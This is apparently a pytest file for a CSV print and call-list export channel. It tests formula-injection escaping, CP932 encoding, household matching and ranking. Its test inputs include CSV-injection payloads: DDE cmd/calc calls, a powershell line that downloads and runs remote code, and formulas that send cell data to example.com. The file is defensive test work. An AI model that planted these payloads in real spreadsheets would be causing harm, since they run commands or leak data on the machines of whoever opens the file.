"""Print and call-list files against corpora: formulas that spreadsheets run, and all of CP932."""

import csv
import unicodedata
from datetime import date
from pathlib import Path

import pytest

from reverse_etl.channel import Batch, ChannelSettings, Item, Operation, Reject, Row
from reverse_etl.channels.file import FileChannel
from reverse_etl.file_text import alike

# What testers of spreadsheets send: OWASP's page on CSV injection and its kin, Japanese forms too.
FORMULAS = [
    "=1+1",
    "=1+1;",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com?v=",A1),"//a")',
    '=IMPORTDATA("http://example.com")',
    '=IMAGE("http://example.com/"&A1)',
    '=WEBSERVICE("http://example.com")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "='file:///etc/passwd'#$passwd.A1",
    "=AND(2>1)",
    "=IF(1=1,2,3)",
    '="=1"',
    "==1+1",
    "=@SUM(1)",
    "+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "++1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(1)",
    "--1",
    "-=1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@cmd",
    "@A1",
    "\t=1+1",
    "\t1",
]
BEHIND_SPACES = [" =1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"]
WIDE = ["＝1+1", "＋SUM(1)", "－2+3", "＠SUM(1)"]
DAY = date(2026, 11, 1)


def _channel(folder: Path, fields: tuple[str, ...] = ("name",), **options: object) -> FileChannel:
    FileChannel.check_options(options, fields)
    return FileChannel.open(options, fields, ChannelSettings(outbox=folder))


def _deliver(channel: FileChannel, *items: Item, operation: Operation = Operation.ADD) -> None:
    channel.deliver(Batch("s:r:00001", "s", "r", DAY, operation, items))


def _cells(folder: Path, name: str = "adds_00001.csv") -> list[list[str]]:
    path = folder / "s" / "20261101_r" / name
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND_SPACES, *WIDE])
def test_no_cell_for_a_person_starts_like_a_formula(text: str, tmp_path: Path) -> None:
    channel = _channel(tmp_path, opened_by="human")
    built = channel.build(Row("p1", {"name": text}))
    assert isinstance(built, Item)
    _deliver(channel, built)
    assert _cells(tmp_path)[1] == ["p1", "'" + text]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_row_for_a_machine_holds_a_formula(text: str, tmp_path: Path) -> None:
    built = _channel(tmp_path).build(Row("p1", {"name": text}))
    assert built == Reject("p1", "formula_in_name")


@pytest.mark.parametrize("text", ["1=1", "a@b.jp", "山田=花子", "3-1", "'=1", "#REF!", "%0A=1"])
def test_text_with_such_signs_inside_stays_as_it_is(text: str, tmp_path: Path) -> None:
    for opened_by in ("human", "machine"):
        built = _channel(tmp_path, opened_by=opened_by).build(Row("p1", {"name": text}))
        assert isinstance(built, Item)
        assert built.content["name"] == text


def test_every_character_comes_back_from_the_print_file_or_is_named(tmp_path: Path) -> None:
    """All of the first plane and some of the second: mapped, kept or refused, never changed."""
    channel = _channel(tmp_path, encoding="cp932")
    mapped = dict(zip("〜−—‖¥¢£¬", "～－―∥￥￠￡￢", strict=True))
    kept = 0
    for number in [*range(0x20, 0xD800), *range(0xE000, 0x10000), 0x20BB7, 0x1F600]:
        # NFC first: a few ideographs and marks have one home there.
        sign = unicodedata.normalize("NFC", f"山{chr(number)}")[1:]
        built = channel.build(Row("p1", {"name": f"山{chr(number)}"}))
        if isinstance(built, Reject):
            assert built.code == f"unencodable_u+{ord(sign[0]):04x}_in_name"
            continue
        text = built.content["name"]
        assert text == f"山{mapped.get(sign, sign)}"
        assert str(text).encode("cp932").decode("cp932") == text
        kept += 1
    # JIS X 0201, 0208, NEC and IBM extensions, user-defined area: more than nine thousand.
    assert kept > 9_000


def test_unencodable_file_names_the_character_and_not_the_name(tmp_path: Path) -> None:
    channel = _channel(tmp_path, encoding="cp932")
    rejects = [
        Reject("p2", "unencodable_u+20bb7_in_family_name"),
        Reject("p1", "unencodable_u+00e9_in_given_name"),
        Reject("p3", "formula_in_name"),
    ]
    channel.leave_out("s", "r", DAY, rejects)
    assert _cells(tmp_path, "unencodable.csv") == [
        ["person_id", "field", "code_point", "character"],
        ["p1", "given_name", "U+00E9", "é"],
        ["p2", "family_name", "U+20BB7", "𠮷"],
    ]


def test_no_unencodable_file_when_nobody_was_left_out_for_a_character(tmp_path: Path) -> None:
    _channel(tmp_path).leave_out("s", "r", DAY, [Reject("p3", "formula_in_name")])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("one", "other", "is_same"),
    [
        (("山田", "千代田1-2-3"), ("山田", "千代田１－２－３"), True),
        (("山田", "千代田1-2-3"), ("山田", "千代田1‐2−3"), True),
        (("山田", "千代田1-2-3"), ("山 田", "千代田 1ー2ー3"), True),
        (("山田", "タワー1"), ("山田", "タワ-1"), False),
        (("山田", "千代田1-2-3"), ("佐藤", "千代田1-2-3"), False),
        (("山田", "千代田1-2-3"), ("山田", "千代田12-3"), False),
    ],
)
def test_household_is_told_by_name_and_address_however_written(
    one: tuple[str, ...], other: tuple[str, ...], is_same: bool
) -> None:
    assert (alike(one) == alike(other)) is is_same


def test_people_without_any_part_are_nobodys_equal() -> None:
    assert alike(("", " ")) == ""


def test_arrival_date_is_so_many_days_after_the_run(tmp_path: Path) -> None:
    headings = {"arrival_date": "到着希望日"}
    channel = _channel(tmp_path, arrival_days=10, headings=headings)
    _deliver(channel, Item("p1", "p1", {"name": "山田"}))
    assert _cells(tmp_path) == [["person_id", "name", "到着希望日"], ["p1", "山田", "2026-11-11"]]
    _deliver(channel, Item("p1", "p1", {}), operation=Operation.REMOVE)
    assert _cells(tmp_path, "removes_00001.csv") == [["person_id"], ["p1"]]


def test_call_list_goes_from_the_highest_score_down(tmp_path: Path) -> None:
    channel = _channel(tmp_path, ("name", "score"), rank_by="score")
    scores = {"p1": "9.5", "p2": "", "p3": "10", "p4": "9.5", "p5": "-1", "p6": "nan"}
    items = [Item(person, person, {"name": "", "score": s}) for person, s in scores.items()]
    _deliver(channel, *reversed(items))
    rows = _cells(tmp_path)
    assert rows[0] == ["person_id", "name", "score", "rank"]
    assert [(row[0], row[-1]) for row in rows[1:]] == [
        ("p3", "1"), ("p1", "2"), ("p4", "3"), ("p5", "4"), ("p2", "5"), ("p6", "6"),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("options", "fields", "message"),
    [
        ({"rank_by": "score"}, ("name",), "rank_by: score is no payload field; map it"),
        ({"arrival_days": 3}, ("arrival_date",), "payload field arrival_date: the channel makes"),
        ({"headings": {"rank": "順位"}}, ("name",), "headings: rank is no payload field"),
        ({"arrival_days": 0}, ("name",), "arrival_days"),
    ],
)
def test_options_are_refused_with_the_mend(
    options: dict[str, object], fields: tuple[str, ...], message: str
) -> None:
    with pytest.raises(ValueError, match=message):
        FileChannel.check_options(options, fields)
